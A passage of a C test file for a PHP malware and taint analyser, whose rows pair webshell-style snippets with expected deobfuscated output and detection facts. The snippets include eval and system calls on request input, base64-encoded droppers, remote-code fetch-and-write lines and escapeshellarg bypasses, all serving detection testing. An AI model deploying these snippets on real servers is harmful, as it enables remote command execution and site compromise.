/*
 * test_php_look - normalised text and facts, one row a behaviour
 *
 * Job:     rows of (PHP, text expected in the normalised code, or a fact and its value).
 * Touches: nothing.
 */
#include "php_frame.h"

static const struct row {
	const char *in,
	    *want; /* want: in the text of the file or of a layer; NULL: only the fact */
	const char *fact;
	int64_t value;
} rows[] = {
    {"<?php class N{private $d;function __construct($d){$this->d=$d;}function go(){"
     "mail($this->d['a'],'s','b');}}$n=new N($_POST);$n->go();",
     NULL, "php_taint_mail_to", 1},
    {"<?php class C{function __invoke($c){eval($c);}}call_user_func(new C,$_POST['x']);",
     NULL, "php_taint_eval", 1},
    {"<?php parse_str(getenv('QUERY_STRING'),$q);system($q['c']);", NULL,
     "php_taint_exec", 1},
    {"<?php $s=fsockopen('a',25);fwrite($s,$_POST['d']);", NULL, "php_taint_smtp", 1},
    {"<?php copy('php://input',$_GET['n']);", NULL, "php_taint_write_data", 1},
    {"<?php rename($_FILES['a']['tmp_name'],$_GET['n']);", NULL, "php_taint_upload_name",
     1},
    {"<?php forward_static_call_array('assert',array($_POST['x']));", NULL,
     "php_taint_eval", 1},
    {"<?php mb_ereg_replace('.*',$_POST['x'],'','e');", NULL, "php_taint_code", 1},
    {"<?php if($z){$c=$_POST['x'];}else{$c='a';}eval($c);", "@@taint eval 1 POST\n",
     "php_taint_eval", 1},
    {"<?php if($z){$t=$_POST['x'];}else{$t='a@b.c';}mail($t,'s','b');", "mail($t,",
     "php_taint_mail_to", 1},
    {"<?php $a=$_POST['x'];$g=function()use($a){return $a;};eval($g());",
     "@@taint eval 1 POST\n", "php_taint_eval", 1},
    {"<?php $a=$_POST[1];function f(){global $a;return $a;}$b=f();$c=$z?:$b;eval($c);",
     "@@taint eval 1 POST\n", "php_taint_eval", 1},
    {"<?php system('l'.str_repeat('',9223372036854775807).'s');", "system('ls');",
     "php_exec_count", 1},
    {"<?php system(implode('',array_slice(array('l','s','x'),-9,2)));", "system('ls');",
     "php_exec_count", 1},
    {"<?php system(substr_replace('lxs','',1,1).round(9.3e18).array_slice(array(1),"
     "-9223372036854775807-1,-9223372036854775807-1)."
     "substr_replace('a','b',9223372036854775807,9223372036854775807));",
     "system(", "php_exec_count", 1},
    {"<?php `x`;$a=\"a\\n@@taint eval 1 POST\\n\";", "\n\\@@taint eval 1 POST\n", NULL,
     0},
    {"<?php /* x */ EVAL ( $a ) ; // y ?>", "eval($a);\n", "php_comments", 2},
    {"abc<?= $_GET['a'] ?>def", "echo 'abc';\necho $_GET['a'];\necho 'def';", "php_tags",
     1},
    {"<?php $a='as'.'sert'; $a($_POST['x']);",
     "assert($_POST['x']);\n@@taint assert 1 POST\n", "php_taint_eval", 1},
    {"<?php eval(base64_decode('ZWNobyAnaGknOw=='));", "echo 'hi';\n", "php_layers", 1},
    {"<?php $f=strrev('tressa'); $f($x); `ls`;", "assert($x);", "php_hidden_sinks", 1},
    {"<?php $k='abc'; for($i=0;$i<3;$i++){$s.=chr(ord($k[$i])+1);} eval($_GET[1].$s);",
     "@@taint eval 1 GET", "php_taint_eval", 1},
    {"<?php function "
     "d($x,$y=1){$o='';for($i=0;$i<strlen($x);$i++)$o.=chr(ord($x[$i])^$y);return $o;} "
     "system(d('bcd'));",
     "system('cbe');", "php_exec_count", 1},
    {"<?php goto c; b: $x.='b'; goto d; c: $x='a'; goto b; d: system($x);",
     "system('ab');", "php_goto_count", 3},
    {"<?php foreach(explode(\"\\n\",$_POST['l']) as "
     "$t){mail($t,$_POST['s'],base64_decode($_POST['m']),'From: '.$_POST['f']);}",
     "@@taint mail 3 POST,B64\n@@taint mail 4 POST", "php_taint_mail_to", 1},
    {"<?php ${'_PO'.'ST'}['q'](1);", "$_POST['q'](1);\n@@taint call 1 POST",
     "php_taint_call", 1},
    {"<?php $a=array('b','e','v','a','l'); $f=$a[1].$a[2].$a[3].$a[4]; $h=$GLOBALS['f']; "
     "echo \"{$h}\"; exec($_COOKIE['a']);",
     "echo 'eval';", "php_taint_exec", 1},
    {"<?php function g($n){return $_POST[$n];} function h($q){eval($q);} h(g('a'));",
     "@@taint eval 1 POST", "php_taint_eval", 1},
    {"<?php preg_replace('/.*/e',\"\\x65\\x76\\x61\\x6c(\\x24a)\",'.');",
     "@@code preg_replace", "php_preg_e", 1},
    {"<?php "
     "move_uploaded_file($_FILES['f']['tmp_name'],$_POST['d'].$_FILES['f']['name']);",
     "@@taint move_uploaded_file 1 FILES\n@@taint move_uploaded_file 2 POST,FILES",
     "php_taint_upload", 1},
    {"<?php "
     "file_put_contents('x.php',base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs='));",
     "system($_GET[1]);", "php_dropped", 1},
    {"<?php $_SERVER['PHP_SELF']='/x'; mail($_POST['t'],'s','b');", "@@taint mail 1 POST",
     "php_server_write", 1},
    {"<?php eval(\"?>\".base64_decode('PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+'));",
     "@@taint eval 1 POST", "php_eval_const", 1},
    {"<?php include 'data:text/plain;base64,PD9waHAgZXZhbCgkX0dFVFsxXSk7';",
     "@@taint eval 1 GET", "php_include_odd", 1},
    {"<?php $f=create_function('$a','return ev'.'al($a);'); `x`;", "return eval($a);",
     "php_create_function", 1},
    {"<form><?php if ($c) system($c); ?>", "system($c);", "php_unset_sinks", 1},
    {"<?php $c = 'ls'; system($c); function f() { global $d; unlink($d); } f();",
     "unlink($d);", "php_unset_sinks", 1},
    {"<?php preg_match('/a/', 'a', $m); system($m[0]); include 'x.php';",
     "system($m[0]);", "php_unset_sinks", 0},
    {"<?php preg_match('/a/', 'a', $m); system($m[0]);", "system($m[0]);",
     "php_unset_sinks", 0},
    {"<?php define('\xf5\xe1', 'sys'.'tem'); (\xf5\xe1)($_GET[1]);",
     "@@taint system 1 GET", "php_taint_exec", 1},
    {"<?php system($HTTP_POST_VARS['c']);", "@@taint system 1 POST", "php_taint_exec", 1},
    {"<?php file_put_contents(__FILE__, $_POST['a']);", NULL, "php_self_write", 1},
    {"<?php file_put_contents('a/b.jpg', serialize($_POST));", NULL, "php_write_odd", 1},
    {"<?php "
     "for($i=0,$d='',$e='abc';@ord($e[$i]);$i++){$d.=chr(ord($e[$i])+1);}eval($d.$z);",
     "eval('bcd'.$z);", "php_eval_count", 1},
    {"<?php class PHPMailer { function Send(){ return mail($this->to,1,2);} } "
     "$m->addAddress($_POST['to']);",
     "class phpmailer{", "php_phpmailer", 1},
    {"<?php $x=eval('$y=1;'; echo 'after'; `ls`;", "echo 'after';", "php_broken", 1},
    {"<?php $a='S '^ab; $_=(([].'')[0]).'x'; `$_`; $x=$a&'~~';", "$a='2B';\n$_='Ax';",
     "php_broken", 0},
    {"<?php $n='eval_x'; $f=$n{0}.$n{1}.$n{2}.$n{3}; $f($q); assert($_GET[0]);",
     "eval($q);", "php_taint_eval", 1},
    {"<?php function "
     "z($s){$s=base64_decode($s);for($i=0;$i<strlen($s);$i++){$s[$i]=chr(ord($s[$i])-1);}"
     "return $s;} eval(z('ZmRpcCEob3AoPA=='));",
     "echo 'no';", "php_eval_const", 1},
    {"<?php $b->a()->b()->c($_GET['x']); ini_set('mail.add_x_header',0); "
     "error_reporting(0); mail('a@b.cc',$_GET['s'],'b');",
     "@@taint mail 2 GET", "php_mail_const_to", 1},
    {"<?php if(md5($_POST['p'])=='x'){echo php_uname(); set_time_limit(0);} echo "
     "'<textarea name=l>'; system('x');",
     "php_uname()", "php_md5_gate", 1},
    {"<?php $h='X-Mailer: Microsoft Outlook'; $h.='X-MimeOLE: x'; fsockopen($m,25); "
     "fputs($s,'EHLO x'); getmxrr($d,$r);",
     "getmxrr($d,$r)", "php_client_headers", 3},
    {"<?php foreach($_POST as $k=>$v){$$k=$v;} system($cmd);", "${$k}=$v;",
     "php_request_all", 1},
    {"<?php $x=array_map('ass'.'ert',array($_REQUEST['c']));", "@@taint assert 1 REQUEST",
     "php_taint_eval", 1},
    {"<?php copy($_FILES['f']['tmp_name'],$_FILES['f']['name']); unlink(__FILE__);",
     "@@taint copy 1 FILES", "php_self_delete", 1},
    {"<?php $d=$_COOKIE; $f=$d['a'].$d['b']; $f($d['c']);", "@@taint call 1 COOKIE",
     "php_taint_call", 1},
    {"<?php eval(gzinflate(base64_decode($r)));", "@@opaque eval", "php_eval_opaque", 1},
    {"<?php ob_start(function($c){register_shutdown_function('assert',$c);}); echo "
     "$_REQUEST['p']; ob_end_flush();",
     "@@callback assert", "php_callback_sinks", 1},
    {"<?php function ff($s){return eval($s);} echo "
     "filter_var($_POST['a'],FILTER_CALLBACK,array('options'=>'ff'));",
     "@@taint eval 1 POST", "php_taint_eval", 1},
    {"<?php $a=new ArrayObject(array($_REQUEST['p']=>2)); $a->uksort('assert');",
     "@@callback assert", "php_callback_sinks", 1},
    {"<?php $_=[]; $_=@\"$_\"; $a=$_['!'=='@']; `$a`;", "$a='A';", "php_exec_count", 1},
    {"<?php function g($u){$c=curl_init($u);return curl_exec($c);} "
     "$f=fopen('x.php','w'); fwrite($f,g('http://a.bb/c'));",
     "@@taint fwrite 2 REMOTE", "php_remote_code", 1},
    {"<?php function "
     "o($s,$m){$r='';for($i=0;$i<strlen($s);$i++){$r.=isset($m[$s[$i]])?$m[$s[$i]]:$s[$i]"
     ";}return $r;} system(o('adb',array('d'=>'x')));",
     "system('axb');", "php_exec_count", 1},
    {"<?php eval(eval('$a=base64_decode(\"ZWNobyAxMjM7\"); return $a;'));", "echo 123;\n",
     "php_layers", 2},
    {"<form method=post><input name=\"to\"><textarea name='msg'></textarea></form><?php "
     "$s=stripslashes($msg); mail($to,'x',$s);",
     "@@taint mail 1 REQUEST\n@@taint mail 3 REQUEST", "php_taint_mail_to", 1},
    {"<?php function r($s,$n){$k=substr($s,0,1); if(strlen($s)==1){return "
     "chr(ord($k)+$n);} else {return chr(ord($k)+$n).r(substr($s,1),$n);}} "
     "system(r('bcdefghijklmnopqrstuvwxyzabcdef',-1));",
     "system('abcdefghijklmnopqrstuvwxy`abcde');", "php_exec_count", 1},
    {"<?php function "
     "z($s){$s=base64_decode($s);for($i=0;$i<strlen($s);$i++){$s[$i]=chr(ord($s[$i])^3);}"
     "return $s;} eval(z('ZmBrbCMyMTA4'));",
     "echo 123;", "php_eval_const", 1},
    {"<?php $_=''; $_[+$_]++; $_=$_.''; $a=$_[+'']; $a++; `$a`;", "$a++;",
     "php_exec_count", 1},
    {"<?php usort(...$_GET);", "@@taint call 1 GET", "php_taint_call", 1},
    {"<?php array_udiff(array($_POST['a']),array(1),$e);", "@@taint call 2 POST",
     "php_call_given", 1},
    {"<?php $f=$t[$i]; $f('x'); $f($_COOKIE['a']);", "@@taint call 2 COOKIE",
     "php_call_given", 1},
    {"<?php $o->$m($_POST['a']); usort($_POST['l'],function($a,$b){return $a-$b;});",
     NULL, "php_call_given", 0},
    {"<?php $f=join(array_diff(array('s','x','ys','y','tem'),array('x','y'))); "
     "$f($_GET['c']);",
     "system($_GET['c']);", "php_taint_exec", 1},
    {"<?php $c=mysqli_connect($_POST['h'],'root',$_POST['p']);", "@@taint connect 3 POST",
     "php_taint_db", 2},
    {"<?php $c=new mysqli('localhost',$user,$pass,$_POST['db']);", NULL, "php_taint_db",
     0},
    {"<?php call_user_func_array('preg_replace',array('/x/e',$_GET['c'],'x'));",
     "@@taint preg_replace 1 GET", "php_preg_e", 1},
    {"<?php\n#[A(\n id: 'x', // it's\n b: new C('it', [1, 2]),\n)]\nclass D { public $e "
     "= 1; "
     "function f() { return $this->e; } }\nstrrev($q); `ls`;",
     "class d{", "php_broken", 0},
    {"<?php\n#['\neval($_POST[1]); //']\n", "@@taint eval 1 POST", "php_taint_eval", 1},
    {"<?php\n#[A(/*\neval($_POST[1]); //*/)]\n", "@@taint eval 1 POST", "php_taint_eval",
     1},
    {"<?php\n#[A(1)\neval($_POST[1]); $a=[1]\n;", "@@taint eval 1 POST", "php_taint_eval",
     1},
    {"<?php\nnamespace A { use B\\C; const D = 1; function f() { system($_GET['a']); } "
     "}\n"
     "abstract class E { function g() { eval($_POST['b']); } }\n?>\n",
     NULL, "php_main", 0},
    {"<?php class E { function __construct() { eval($_POST['b']); } } new E;", NULL,
     "php_main", 1},
    {"<?php namespace A { system($_GET['a']); } ?>text", NULL, "php_main", 2},
    {"<?php function f() { eval($_POST['b']); } if (1) { f(); }", NULL, "php_main", 1},
    {"<?php $f=function($a)use($b){return 1;};`x`;", NULL, "php_namespaces", 0},
    {"<?php use A\\B; `x`;", NULL, "php_namespaces", 1},
    {"<?php system('git log '.escapeshellarg($_GET['b']));", NULL, "php_taint_exec", 0},
    {"<?php $h=fopen($_POST['n'],'r+b');", NULL, "php_taint_write_name", 1},
    {"<?php stream_copy_to_stream(fopen('php://input','r'),fopen($_GET['n'],'w'));", NULL,
     "php_taint_write_data", 1},
    {"<?php $u='http://'.$h.'/a';file_put_contents($n,file_get_contents($u));", NULL,
     "php_remote_code", 0},
    {"<?php $u='http://'.$h.'/a';file_put_contents($d.'/x.php',file_get_contents($u));",
     NULL, "php_remote_code", 1},
    {"<?php $f=fopen(\"$d/x.php\",'w');fwrite($f,file_get_contents('http://'.$h));", NULL,
     "php_write_prog", 1},
    {"<?php copy(implode(array('http://a.b','/c.txt')),$d.'x.php');", NULL,
     "php_write_prog", 1},
    {"<?php foreach($l as $n){$c.=chr($n+1);}eval($c);", "@@opaque eval",
     "php_eval_opaque", 1},
    {"<?php $m=$_POST['m'];array_map(fn($t)=>mail($t,'s',$m),$l);", NULL,
     "php_taint_mail_body", 1},
    {"<?php class G{function __get($n){return $_GET[$n];}}$g=new G;system($g->c);", NULL,
     "php_taint_exec", 1},
    {"<?php interface I{function p($c);}class P implements I{function p($c){system($c);}}"
     "$o=new P;$o->p($_GET['c']);",
     NULL, "php_taint_exec", 1},
    {"<?php if(isset($_GET['p'])&&in_array($_GET['p'],array('a','b'))){$p=$_GET['p'];"
     "include $p;}",
     NULL, "php_taint_include", 0},
    {"<?php if(in_array($_GET['p'],array('a')))$x=1;include $_GET['p'];", NULL,
     "php_taint_include", 1},
    {"<?php function d($s){return preg_replace_callback('/x/',$f,$s);}"
     "eval(d('fdoo_ph+4,'));",
     "@@opaque eval", "php_eval_opaque", 1},
    {"<?php unlink($_SERVER['SCRIPT_FILENAME']);", NULL, "php_self_delete", 1},
    {"<?php file_put_contents('c/'.$n.'.svg',file_get_contents(\"http://a.b/$x\"));",
     NULL, "php_remote_code", 0},
    {"<?php "
     "file_put_contents($n,json_encode(simplexml_load_string(file_get_contents('http://"
     "'.$h))));`x`;",
     NULL, "php_remote_code", 0},
    {"<?php eval(substr(file_get_contents('https://'.$h),4));", NULL, "php_remote_eval",
     1},
    {"<?php $j=json_decode(file_get_contents('http://a/'.$i));foreach($j->l as "
     "$t)mail($t,'s','b');",
     NULL, "php_remote_mail", 1},
    {"<?php call_user_func($_GET['f'],$_GET['a']);", NULL, "php_taint_call_args", 1},
    {"<?php call_user_func($_GET['f'],$a);", NULL, "php_taint_call_args", 0},
    {"<?php $s=new S($_GET['q']);usort($l,[$s,'sort']);", NULL, "php_taint_call", 0},
    {"<?php usort($l,[$s,$_GET['m']]);", NULL, "php_taint_call", 1},
    {"<?php $f=$x->a.$x->b;$f(trim($_POST['a']));", NULL, "php_call_request", 1},
    {"<?php class A{function __destruct(){($this->f)($this->d);}}`x`;", NULL,
     "php_dynamic_calls", 1},
    {"<?php foreach(file(__FILE__) as $l){$c.=substr($l,2);}eval($c);", NULL,
     "php_eval_self", 1},
    {"<?php $t=tempnam('/x','y');file_put_contents($t,$_POST['c']);include $t;", NULL,
     "php_include_temp", 1},
    {"<?php include 'mine://a';`x`;", NULL, "php_include_scheme", 1},
    {"<?php include 'phar://a.phar/b.php';`x`;", NULL, "php_include_scheme", 0},
    {"<?php $d=new DateTime;$f=$d->format('\\s\\y\\s\\t\\e\\m');$f($_GET[1]);",
     "@@taint system 1 GET", "php_taint_exec", 1},
    {"<?php system(date('\\l\\s').date('Y'));", "system('ls'.date('Y'));", NULL, 0},
    {"<?php system(sprintf('%05b%03d',5,7));", "system('00101007');", NULL, 0},
    {"<?php class M{function __construct(){foreach($_POST as $k=>$v)$this->m[$k]=$v;}"
     "function __call($n,$a){return call_user_func($this->m[$n],1);}}",
     NULL, "php_taint_call", 1},
    {"<?php $p=in_array($_GET['p'],array('a','b'))?$_GET['p']:'a';include $p;", NULL,
     "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,array('a','b')))include $p;", NULL,
     "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(!in_array($p,array('a','b')))exit;include $p;", NULL,
     "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(!in_array($p,array('a','b')))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if($x){if(!in_array($p,array('a')))exit;}include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];$l=array('a'=>1,'b'=>2);if(!array_key_exists($p,$l))exit;"
     "include $p;",
     NULL, "php_taint_include", 0},
    {"<?php wp_mail($a,'s',$t,'h',array($_FILES['f']['name']));", NULL, "php_taint_exec",
     0},
    {"<?php mail($a,'s',$t,'h',$_POST['x']);", NULL, "php_taint_exec", 1},
    {"<?php imap_mail($a,'s',$t,'h',$_POST['x']);", NULL, "php_taint_mail_to", 1},
    {"<?php $p=$_GET['p'];if(array_key_exists($p,$l))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(array_key_exists($p,$_GET))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];$l['a']=1;$l[$_GET['q']]=1;if(array_key_exists($p,$l))include "
     "$p;",
     NULL, "php_taint_include", 1},
    {"<?php $f=$_GET['f'];if(array_key_exists($f,array('system'=>1)))$f($_GET['c']);",
     NULL, "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,$_GET['l']))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php exec('git pull '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 0},
    {"<?php $c='git pull ';$c.=escapeshellarg($_POST['x']);$c.=' 2>&1';exec($c);", NULL,
     "php_taint_exec", 0},
    {"<?php $a=escapeshellarg($_POST['x']);`git pull {$a}`;", NULL, "php_taint_exec", 0},
    {"<?php $q=escapeshellarg($_POST['x']);exec(\"convert $q out.png\");", NULL,
     "php_taint_exec", 0},
    {"<?php exec(sprintf('git log %s %s',$a,escapeshellarg($_POST['x'])));", NULL,
     "php_taint_exec", 0},
    {"<?php exec(implode(' ',array('git','log',escapeshellarg($_POST['x']))));", NULL,
     "php_taint_exec", 0},
    {"<?php function run($c){exec('git '.$c);}run(escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 0},
    {"<?php exec('php cron.php '.escapeshellarg($_POST['x']).' > /dev/null 2>&1 &');",
     NULL, "php_taint_exec", 0},
    {"<?php exec('bash run.sh '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec",
     0},
    {"<?php exec(\"$b/php -f x.php \".escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 0},
    {"<?php exec('cd /tmp && git pull '.escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 0},
    {"<?php system('sh -c '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php shell_exec('bash -c '.escapeshellarg($_POST['x']).' 2>&1');", NULL,
     "php_taint_exec", 1},
    {"<?php system('php8.1 -d a=b -r '.escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 1},
    {"<?php system('/usr/bin/env perl -we '.escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 1},
    {"<?php system(escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php system(' '.escapeshellarg($_POST['x']).' -l');", NULL, "php_taint_exec", 1},
    {"<?php system('id; '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php system('find . -exec '.escapeshellarg($_POST['x']).' {} +');", NULL,
     "php_taint_exec", 1},
    {"<?php system('echo '.escapeshellarg($_POST['x']).' | xargs');", NULL,
     "php_taint_exec", 1},
    {"<?php system('echo '.escapeshellarg($_POST['x']).' | /bin/sh');", NULL,
     "php_taint_exec", 1},
    {"<?php system('eval '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php system('bash <<< '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php system('echo '.escapeshellarg($_POST['x']).' > a.php');", NULL,
     "php_taint_exec", 1},
    {"<?php $c='sh -c ';$c.=escapeshellarg($_POST['x']);system($c);", NULL,
     "php_taint_exec", 1},
    {"<?php $q=escapeshellarg($_POST['x']);`sh -c $q`;", NULL, "php_taint_exec", 1},
    {"<?php $q=' -c '.escapeshellarg($_POST['x']);system($sh.$q);", NULL,
     "php_taint_exec", 1},
    {"<?php system(sprintf('%2$s -c %1$s',escapeshellarg($_POST['x']),'bash'));", NULL,
     "php_taint_exec", 1},
    {"<?php system(implode(' ',['sh','-c',escapeshellarg($_POST['x'])]));", NULL,
     "php_taint_exec", 1},
    {"<?php proc_open(['sh','-c',escapeshellarg($_POST['x'])],$d,$e);", NULL,
     "php_taint_exec", 1},
    {"<?php system(trim(escapeshellarg($_POST['x']),\"'\"));", NULL, "php_taint_exec", 1},
    {"<?php system('git '.substr(escapeshellarg($_POST['x']),1,-1));", NULL,
     "php_taint_exec", 1},
    {"<?php system('git '.strtr(escapeshellarg($_POST['x']),$t));", NULL,
     "php_taint_exec", 1},
    {"<?php $s=escapeshellarg($_POST['x']);for($i=1;$i<$n;$i++)$o.=$s[$i];system('a "
     "'.$o);",
     NULL, "php_taint_exec", 1},
    {"<?php system('git '.escapeshellarg($_POST['x']).$_POST['y']);", NULL,
     "php_taint_exec", 1},
    {"<?php function run($c){system('sh -c '.$c);}run(escapeshellarg($_POST['x']));",
     NULL, "php_taint_exec", 1},
    {"<?php call_user_func('system','sh -c '.escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 1},
    {"<?php mail('a@b','c','d','e',escapeshellarg($_POST['x']));", NULL, "php_taint_exec",
     1},
    {"<?php eval(substr(escapeshellarg($_POST['x']),1,-1));", NULL, "php_taint_eval", 1},
    {"<?php eval(shell_exec('echo '.escapeshellarg($_POST['x'])));", NULL,
     "php_taint_eval", 1},
    {"<?php mail(trim(escapeshellarg($_POST['x']),\"'\"),'s','b');", NULL,
     "php_taint_mail_to", 1},
    {"<?php readfile(trim(escapeshellarg($_POST['x']),\"'\"));", NULL, "php_taint_read",
     1},
    {"<?php $f=trim(escapeshellarg($_POST['x']),\"'\");$f($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,[true]))include $p;", NULL, "php_taint_include",
     1},
    {"<?php $p=$_GET['p'];if(in_array($p,[0,'a']))include $p;", NULL, "php_taint_include",
     1},
    {"<?php $p=$_GET['p'];if(in_array($p,[]))include $p;", NULL, "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['']))include $p;", NULL, "php_taint_include",
     1},
    {"<?php $p=$_GET['p'];if(in_array($p,[null,'a']))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a',$x]))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,$l))include $p;", NULL, "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,[1,'a'],true))include $p;", NULL,
     "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,[1,'a'],$s))include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a','b'],true))include \"p/$p.php\";", NULL,
     "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,['a']))include $p.$_GET['q'];", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(!in_array($p,['a']))goto l;l:include $p;", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a'])||1)include $p;", NULL,
     "php_taint_include", 1},
    {"<?php function f(){$p=$_GET['p'];if(!in_array($p,['a']))return;include $p;}f();",
     NULL, "php_taint_include", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,['a']))readfile($p);", NULL, "php_taint_read",
     0},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b']))$p($_GET['c']);", NULL,
     "php_taint_call", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','system']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','SYSTEM']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','tem']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','pass']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','popen']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','my_exec']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b','s']))$p($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a']))system($p);", NULL, "php_taint_exec", 1},
    {"<?php $p=$_GET['p'];if(!in_array($p,['a']))exit;eval($p);", NULL, "php_taint_eval",
     1},
    {"<?php $p=in_array($_GET['p'],['a'])?$_GET['p']:'b';system($p);", NULL,
     "php_taint_exec", 1},
    {"<?php if(in_array($_GET['p'],['a'])){mail($_GET['p'],'s','b');}", NULL,
     "php_taint_mail_to", 1},
    {"<?php if(in_array($_GET['p'],['a'])){eval($_GET['p']);}", NULL, "php_taint_eval",
     1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a']))exec('git '.escapeshellarg($p));", NULL,
     "php_taint_exec", 0},
    {"<?php $p=$_GET['p'];if(in_array($p,['a']))exec('git '.$p.' "
     "'.escapeshellarg($_POST['x']));",
     NULL, "php_taint_exec", 1},
    {"<?php $a='git log '.escapeshellarg($_POST['x']);exec('cd /tmp; '.$a);", NULL,
     "php_taint_exec", 0},
    {"<?php $f=escapeshellarg($_POST['x']).'.txt';exec('cat '.$f.' | head -n 5');", NULL,
     "php_taint_exec", 0},
    {"<?php system('git log \"'.escapeshellarg($_POST['x']).'\"');", NULL,
     "php_taint_exec", 1},
    {"<?php system('/opt/bin/'.escapeshellarg($_POST['x']).' -v');", NULL,
     "php_taint_exec", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b']))include strtolower($p).'.php';", NULL,
     "php_taint_include", 0},
    {"<?php "
     "$p=$_GET['p'];if(in_array($p,['a_b'])){$f=str_replace('_','',$p);$f($_GET['c']);}",
     NULL, "php_taint_call", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b']))include base64_decode($p);", NULL,
     "php_taint_include", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['yst']))(\"s$p\".'em')($_GET['c']);", NULL,
     "php_taint_call", 1},
    {"<?php "
     "$p=$_GET['p'];if(in_array($p,['a_b']))file_put_contents(\"c/$p.txt\",$_POST['t']);",
     NULL, "php_taint_write_name", 0},
    {"<?php "
     "$p=$_GET['p'];if(in_array($p,['a_b']))file_put_contents(\"c/$p.php\",$_POST['t']);",
     NULL, "php_taint_write_name", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a.php']))file_put_contents($p,$_POST['t']);",
     NULL, "php_taint_write_name", 1},
    {"<?php "
     "$p=$_GET['p'];if(in_array($p,['.htaccess']))file_put_contents($p,$_POST['t']);",
     NULL, "php_taint_write_name", 1},
    {"<?php $p=$_GET['p'];if(in_array($p,['a_b']))unlink($p);", NULL, "php_taint_unlink",
     1},
    {"<?php system('s\\h -c '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec", 1},
    {"<?php system(\"s''h -c \".escapeshellarg($_POST['x']));", NULL, "php_taint_exec",
     1},
    {"<?php system('$SHELL -c '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec",
     1},
    {"<?php system('${SHELL} -c '.escapeshellarg($_POST['x']));", NULL, "php_taint_exec",
     1},
    {"<?php exec('\"/opt/a b\" -v '.escapeshellarg($_POST['x']));", NULL,
     "php_taint_exec", 0},
    {"<?php class A{function __construct(){`x`;}}const B=new A;", NULL, "php_main", 1},
    {"<?php class A{function f(){`x`;}}const B=array(1,-2,'c'.D);", NULL, "php_main", 0},
    {"<?php namespace N{class A{function f(){`x`;}}const B=[1,[new A]];}", NULL,
     "php_main", 1},
};

/*
 * The table of names grows while a function is run, whose memory is given back after: at
 * one of these counts it grows on the first name looked up in the run.
 */
static void
names_outlive_runs(struct php *p)
{
	char code[8192];
	unsigned count, i;

	for (count = 90; count < 150; count++) {
		const struct php_view *v;
		size_t n = (size_t)snprintf(
		    code, sizeof(code),
		    "<?php function "
		    "f($a){$g='chr';$r='';for($i=0;$i<40;$i++)$r.=$g(65);return $r.$a;}");

		for (i = 0; i < count; i++)
			n += (size_t)snprintf(code + n, sizeof(code) - n, "$v%u=1;", i);
		n += (size_t)snprintf(
		    code + n, sizeof(code) - n,
		    "f('x');f('y');$q='a'.'b';system($q.$v1);strlen($v2.$_GET[1]);");
		v = php_look(p, code, n);
		T_CHECK(shows(v, "system('ab1');"), "%u names", count);
	}
}

/* Padding goes, the code stays, and what was left out of a literal is said. */
static void
condensed(struct php *p)
{
	static const char code[] = "mail($_POST['a'],$b,$c);";
	static char in[400000], out[100000];
	static const struct {
		const char *open, *close;
		bool whole;
	} pads[] = {{"<?php /*", "*/", true},
		    {"<?php //", "\n", true},
